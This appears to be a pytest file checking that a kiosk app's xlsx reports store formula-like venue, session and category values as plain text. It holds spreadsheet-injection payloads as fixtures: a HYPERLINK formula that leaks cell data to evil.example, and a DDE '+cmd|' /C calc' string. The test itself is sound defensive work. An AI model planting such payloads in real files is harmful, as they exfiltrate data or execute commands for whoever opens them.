"""A venue, municipality or session typed as a formula stays text in every report workbook (the
kiosk's `kiosk report --format xlsx` and HQ's downloads both write through kiosk.reports.render)."""

from __future__ import annotations

from openpyxl import load_workbook

from kiosk.domain.events import event_from_json
from kiosk.reports.render import compute, write

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'
LINES = [
    '{"type":"session_open","at":"2026-11-20T09:00:00+09:00","session":"=1+1","venue":%s,'
    '"municipality":"@SUM(A1:A9)","kind":"support","large_venue":false}',
    '{"type":"visitor","at":"2026-11-20T09:10:00+09:00","session":"=1+1"}',
    '{"type":"other","at":"2026-11-20T09:20:00+09:00","session":"=1+1","category":"+cmd|\' /C calc\'!A0"}',
]


def test_every_text_cell_is_written_as_text(tmp_path):
    import json

    events = [event_from_json(line % json.dumps(HOSTILE) if "%s" in line else line) for line in LINES]
    for kind, args in (("daily", {"date": "2026-11-20"}), ("monthly", {"month": "2026-11"})):
        out = tmp_path / f"{kind}.xlsx"
        write(compute(kind, events, **args), kind, "xlsx", out)
        book = load_workbook(out)
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        assert HOSTILE in [c.value for c in cells]  # the venue is there, as typed
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
